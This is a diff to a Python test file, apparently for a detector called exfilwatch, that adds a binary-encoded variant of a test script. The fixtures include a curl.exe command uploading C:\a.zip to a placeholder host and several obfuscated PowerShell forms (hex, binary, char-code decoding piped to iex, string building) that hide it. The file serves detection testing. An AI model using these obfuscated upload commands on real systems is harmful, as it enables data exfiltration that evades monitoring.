@@ -11,6 +11,7 @@ from exfilwatch.commands.shells import powershell
 
 UPLOAD = ["curl.exe", "-T", r"C:\a.zip", "http://h/"]
 SCRIPT = r"curl.exe -T C:\a.zip http://h/"
+BITS = " ".join(f"{ord(each):b}" for each in SCRIPT)
 
 
 def encoded(script: str, encoding: str = "utf-16-le") -> str:
@@ -229,7 +230,7 @@ def test_pipes_are_followed() -> None:
         (f"(({','.join(hex(ord(each)) for each in SCRIPT)})|%{{[convert]::ToChar($_)}})-join''|iex", None),
         (f"('{' '.join(f'{ord(each):x}' for each in SCRIPT)}'-split' '|%{{[char][byte]\"0x$_\"}})-join''|iex", None),
         (
-            f"('{' '.join(map('{:b}'.format, SCRIPT.encode()))}'-split' '|%{{[char][convert]::ToByte($_,2)}})-join''|iex",
+            f"('{BITS}'-split' '|%{{[char][convert]::ToByte($_,2)}})-join''|iex",
             None,
         ),
         ("$a,$b='curl','.exe'; & ($a+$b) -T C:\\a.zip http://h/", "string building"),
